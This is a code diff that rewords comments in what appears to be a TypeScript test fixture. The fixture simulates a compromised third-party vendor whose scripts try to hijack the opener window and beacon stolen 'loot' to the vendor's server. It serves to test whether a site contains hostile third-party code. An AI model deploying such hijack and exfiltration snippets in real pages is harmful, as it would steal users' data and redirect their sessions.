@@ -10,7 +10,7 @@ export interface Answer {
 
 export type Part = 'pricing' | 'exam'
 
-/** What its window tries, and then says that it has. */
+/** The document of the vendor's window, which makes its attempt and then reports that it has. */
 const popup = `<!doctype html><title>Popup</title><script>
 for (const take of [
   () => { opener.top.location = '${providerOrigin}/taken' },
@@ -21,14 +21,14 @@ new Image().src = '${providerOrigin}/loot?by=done'
 </script>`
 
 /**
- * A vendor that has turned against the site: its scripts work as ever, and try something besides. What they carry off
- * arrives at its own server, which the vendor's document may reach.
+ * A vendor that has become hostile: its scripts work as before and make attempts as well. What they steal arrives at
+ * the vendor's own server, which the vendor's document may reach.
  */
 export function hostileVendor() {
   let script = ''
   let loot: { by: string; text: string }[] = []
   return {
-    /** From now on its scripts try these, one after the other; what was carried off before is forgotten. */
+    /** Makes its scripts try these attempts from now on, one after the other, and forgets what was stolen before. */
     turn: (tried: readonly Attempt[]) => {
       script = scriptOf(tried)
       loot = []
@@ -38,9 +38,9 @@ export function hostileVendor() {
         .filter(({ by }) => by === name)
         .map(({ text }) => text)
         .join('\n'),
-    /** Whether its script has tried all that it wanted to. */
+    /** Whether its script has tried everything. */
     isDone: () => loot.some(({ by }) => by === 'done'),
-    /** What it answers at an address of its origin. */
+    /** The answer at an address of its origin. */
     answer(address: string): Answer {
       const { pathname, searchParams } = new URL(address)
       const code = (body: string) => ({ contentType: 'text/javascript', body })
@@ -54,7 +54,10 @@ export function hostileVendor() {
   }
 }
 
-/** Once all is tried, three more requests go by before the script says so: what it set off has begun by then, or has not. */
+/**
+ * The script that makes the attempts. At the end it sends three more requests before it reports, so that whatever an
+ * attempt started has begun by then.
+ */
 function scriptOf(tried: readonly Attempt[]): string {
   const by = tried.find((attempt) => attempt.by)?.by
   const steps = tried.map(
